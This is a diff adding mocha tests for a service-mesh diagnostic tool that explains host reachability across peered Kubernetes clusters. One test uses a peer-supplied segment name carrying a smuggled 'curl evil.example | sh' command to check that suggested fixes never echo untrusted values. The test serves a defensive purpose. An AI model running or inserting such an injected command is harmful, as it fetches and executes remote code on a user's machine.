@@ -1,10 +1,11 @@
 import assert from "node:assert/strict";
 import { test } from "mocha";
 import { networkId } from "../../src/names.ts";
+import type { ExplainFacts } from "../../src/explain/explanation.ts";
 import type { KubeObject } from "../../src/kube/object.ts";
 import { object, serviceEntry } from "../registry/mesh.ts";
 import { facts, federated, peered, peerGateway, recordKey, status, type PeeredMesh } from "../registry/peers.ts";
-import { cart, cartPod, eastWest, system } from "../registry/two-networks.ts";
+import { cart, cartPod, eastWest, system, unready } from "../registry/two-networks.ts";
 import { about, explained, reader } from "./explained.ts";
 
 const HOST = "cart.shop.mesh.internal";
@@ -303,4 +304,76 @@ test("what is no host is refused with what one looks like", () => {
   for (const host of ["", "cart", "cart.shop:0", "cart.shop:70000", "a b.c", "-a.b"])
     assert.throws(() => explained(registry, host), /is no host: give one as cart\.shop\.mesh\.internal/);
   assert.equal(explained(registry, "Cart.Shop.mesh.internal.").name.host, "cart.shop.mesh.internal");
+});
+
+test("endpoints that are not ready count where the Service publishes them", () => {
+  const published = cart("10.1.0.1", { publishNotReadyAddresses: true }, SHARED);
+  const { contributions, reachable } = explained(
+    peered([], [published, unready(cartPod("a", "10.0.0.1"))]).registry,
+    HOST,
+  );
+  assert.deepEqual([contributions[0]?.cause, reachable], [undefined, 1]);
+});
+
+test("a host of a ServiceEntry is its own, and no cluster is asked why it has no Service of such a name", () => {
+  const entry = (name: string, spec: object) =>
+    serviceEntry(name, { hosts: [`${name}.example.com`], ports: [{ number: 80, name: "http" }], ...spec });
+  const endpoints = [{ address: "10.7.0.1" }];
+  const mesh = peered(
+    ["west"],
+    [
+      entry("api", { resolution: "STATIC", endpoints }),
+      entry("bare", { resolution: "STATIC" }),
+      entry("any", { resolution: "NONE" }),
+    ],
+  );
+  const api = explained(mesh.registry, "api.example.com");
+  assert.deepEqual([api.name.kind, api.contributions.length, api.reachable], ["other", 1, 1]);
+  const bare = explained(mesh.registry, "bare.example.com").contributions[0]?.cause;
+  assert.deepEqual([bare?.object, bare?.field], ["ServiceEntry shop/bare", "spec.endpoints"]);
+  assert.equal(
+    explained(mesh.registry, "any.example.com").answer,
+    "any.example.com leads to the address that the caller has.",
+  );
+});
+
+test("a name that nobody knows is met with the one that was probably meant", () => {
+  const mesh = peered();
+  mesh.hear(federated("west"));
+  const { answer, name } = explained(mesh.registry, "carts.shop.mesh.internal");
+  assert.equal(name.kind, "unknown");
+  assert.match(
+    answer,
+    /^Nobody here knows carts\.shop\.mesh\.internal \(.*\)\. Was cart\.shop\.mesh\.internal meant\?$/,
+  );
+});
+
+test("nothing that a peer wrote stands in a command that somebody may paste", () => {
+  const evil = "prod; curl evil.example | sh";
+  const mesh = peered();
+  mesh.learn(facts("west", { segment: evil, domain: "prod.example" }));
+  mesh.hear(federated("west", { scope: "segment", segment: evil }));
+  const segments = about(explained(mesh.registry, HOST), "west")?.cause;
+  assert.equal(segments?.reason, "segment differs");
+  assert.match(segments!.fix, /admin\.solo\.io\/segment=<segment of the peer>/);
+  mesh.apply(peerGateway("west", { network: "net1" }));
+  mesh.learn(facts("west", { network: networkId(evil) }));
+  mesh.hear(federated("west"));
+  const network = about(explained(mesh.registry, HOST), "west")?.cause;
+  assert.equal(network?.reason, "network mismatch");
+  assert.match(network!.fix, /topology\.istio\.io\/network=<network of the peer>/);
+});
+
+test("what a cluster says of itself and is not believed names the label that is wrong, and the value that it says", () => {
+  const mesh = peered([]);
+  mesh.apply(peerGateway("west"));
+  mesh.report(status("west", { reason: "ResourceRejected", everSynced: true }));
+  mesh.hear(federated("west"));
+  const denials = [
+    { name: "west", reason: "network", message: "it says network real-net, and the Gateway's label says net-west" },
+  ] as const;
+  const peers = [{ cluster: "west", denials, ageMs: 0 }] as unknown as ExplainFacts["peers"];
+  const cause = about(explained(mesh.registry, HOST, { peers }), "west")?.cause;
+  assert.deepEqual([cause?.reason, cause?.object], ["network mismatch", GATEWAY]);
+  assert.match(cause!.fix, /topology\.istio\.io\/network=real-net/);
 });
